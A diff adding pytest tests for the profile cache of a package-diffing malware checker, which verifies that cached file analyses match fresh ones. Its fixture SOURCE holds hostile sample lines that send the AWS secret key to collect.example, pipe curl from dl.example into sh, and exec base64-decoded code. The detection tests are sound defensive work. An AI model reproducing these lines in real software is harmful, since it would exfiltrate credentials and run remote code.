@@ -1,0 +1,155 @@
+"""Per-file analysis results kept by content: a kept profile is the profile the analysis
+makes, and a diff made from kept profiles is the diff made without them."""
+
+from __future__ import annotations
+
+import dataclasses
+from pathlib import Path
+
+import pytest
+
+from tests.helpers.corpus import BASE, BENIGN, MALICIOUS, Variant
+from tests.helpers.dists import build_sdist, build_wheel
+from verify._behaviour import diff_side, profile_cache
+from verify._behaviour.cache import ANALYSER_VERSION
+from verify._behaviour.capabilities import file_kind, profile_file
+from verify._behaviour.diff import DistFile, diff_distributions
+from verify._behaviour.profile import FileProfile
+from verify._behaviour.profile_cache import KEPT_FROM, ProfileCache
+from verify._checks.typosquat import PopularNames
+
+POPULAR = PopularNames.load()
+
+#: A module that does enough to have capabilities, hosts and findings, padded past KEPT_FROM.
+SOURCE = (
+    b"import base64, os, subprocess, urllib.request\n"
+    b"TOKEN = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
+    b"urllib.request.urlopen('https://collect.example/x', data=TOKEN.encode())\n"
+    b"subprocess.Popen(['sh', '-c', 'curl https://dl.example/a | sh'])\n"
+    b"exec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n" + b"# padding\n" * (KEPT_FROM // 10)
+)
+
+
+def _profile(path: str = "pkg/mod.py", data: bytes = SOURCE) -> FileProfile:
+    return profile_file(path, data)
+
+
+def test_a_kept_profile_reads_back_equal(tmp_path: Path) -> None:
+    cache = ProfileCache(tmp_path)
+    profile = _profile()
+    # The round trip carries every part.
+    assert profile.capabilities
+    assert profile.hosts
+    key = cache.key("pkg/mod.py", SOURCE, loads_at_install=False, called_on_import=frozenset())
+    assert cache.get(key) is None
+    cache.put(key, profile)
+    assert cache.get(key) == profile
+
+
+def test_the_key_names_everything_the_analysis_reads() -> None:
+    def key(
+        path: str = "pkg/mod.py",
+        data: bytes = SOURCE,
+        install: bool = False,
+        called: frozenset[str] = frozenset(),
+    ) -> str:
+        return ProfileCache.key(path, data, loads_at_install=install, called_on_import=called)
+
+    keys = {
+        key(),
+        key(path="pkg/other.py"),
+        key(data=SOURCE + b"\n"),
+        key(install=True),
+        key(called=frozenset({"run"})),
+        key(called=frozenset({"run", "go"})),
+    }
+    assert len(keys) == 6
+    assert key(called=frozenset({"go", "run"})) == key(called=frozenset({"run", "go"}))
+
+
+def test_only_parsed_files_worth_it_are_kept(tmp_path: Path) -> None:
+    cache = ProfileCache(tmp_path)
+    small = b"print('hi')\n"
+    native = b"\x7fELF\x02\x01\x01" + b"\0" * KEPT_FROM
+    assert not cache.worth_keeping("pkg/small.py", small)
+    assert not cache.worth_keeping("pkg/lib.so", native)
+    assert cache.worth_keeping("pkg/mod.py", SOURCE)
+    for path, data in (("pkg/small.py", small), ("pkg/lib.so", native)):
+        key = cache.key(path, data, loads_at_install=False, called_on_import=frozenset())
+        cache.put(key, profile_file(path, data))
+        assert cache.get(key) is None
+    assert not list(tmp_path.rglob("*.json"))
+
+
+@pytest.mark.parametrize(
+    "content",
+    ["not json", "[]", '{"format": "0"}', '{"format": "%s", "path": "x"}'],
+)
+def test_an_unusable_record_is_discarded(tmp_path: Path, content: str) -> None:
+    cache = ProfileCache(tmp_path)
+    key = cache.key("pkg/mod.py", SOURCE, loads_at_install=False, called_on_import=frozenset())
+    cache.put(key, _profile())
+    (record,) = tmp_path.rglob("*.json")
+    record.write_text(content.replace("%s", ANALYSER_VERSION))
+    assert cache.get(key) is None
+    assert not record.exists()
+
+
+def _pairs(tmp_path: Path) -> list[tuple[str, DistFile, DistFile]]:
+    pairs = []
+    variants: tuple[Variant, ...] = (*MALICIOUS, *BENIGN)
+    for variant in variants:
+        for form in variant.forms:
+            build = build_wheel if form == "wheel" else build_sdist
+            where = tmp_path / "dists" / f"{variant.id}-{form}"
+            old = build(BASE, where / "old")
+            new = build(variant.build(), where / "new")
+            pairs.append((f"{variant.id}-{form}", DistFile(new, new.name), DistFile(old, old.name)))
+    return pairs
+
+
+def test_diffs_from_kept_profiles_are_the_diffs_made_without_them(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Every pair of the synthetic corpus, with every parsed file kept (the size floor set
+    to nothing): the diffs made while filling the cache, and made again from it, equal the
+    diffs made without one, and the second time no parsed file is analysed."""
+    monkeypatch.setattr(profile_cache, "KEPT_FROM", 0)
+    cache = ProfileCache(tmp_path / "profiles")
+    analysed: list[tuple[str, str]] = []
+    real = profile_file
+
+    def counting(path: str, data: bytes, **flags: object) -> FileProfile:
+        analysed.append((path, file_kind(path, data)))
+        return real(path, data, **flags)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(diff_side, "profile_file", counting)
+    for what, new, old in _pairs(tmp_path):
+        plain = diff_distributions(new, old, popular=POPULAR)
+        analysed.clear()
+        filled = diff_distributions(new, old, popular=POPULAR, profiles=cache)
+        assert filled == plain, what
+        analysed.clear()
+        again = diff_distributions(new, old, popular=POPULAR, profiles=cache)
+        assert again == plain, what
+        assert [path for path, kind in analysed if kind not in ("native", "data")] == [], what
+    assert list((tmp_path / "profiles").rglob("*.json"))
+
+
+def test_a_kept_profile_serves_another_release(tmp_path: Path) -> None:
+    """The file a release shares with the next one is analysed once for both diffs."""
+    spec = dataclasses.replace(BASE, files={**BASE.files, "tinyweb/big.py": SOURCE.decode()})
+    newer = dataclasses.replace(spec, version="1.2")
+    old = build_wheel(spec, tmp_path / "a")
+    new = build_wheel(newer, tmp_path / "b")
+    cache = ProfileCache(tmp_path / "profiles")
+    first = diff_distributions(DistFile(new, new.name), None, popular=POPULAR, profiles=cache)
+    kept = sorted((tmp_path / "profiles").rglob("*.json"))
+    assert kept
+    # The older release, analysed alone, finds its big module already profiled: no record is
+    # added, and its findings for that module are the newer release's.
+    second = diff_distributions(DistFile(old, old.name), None, popular=POPULAR, profiles=cache)
+    assert sorted((tmp_path / "profiles").rglob("*.json")) == kept
+    assert {(f.rule, f.path, f.line) for f in first.findings if f.path == "tinyweb/big.py"} == {
+        (f.rule, f.path, f.line) for f in second.findings if f.path == "tinyweb/big.py"
+    }
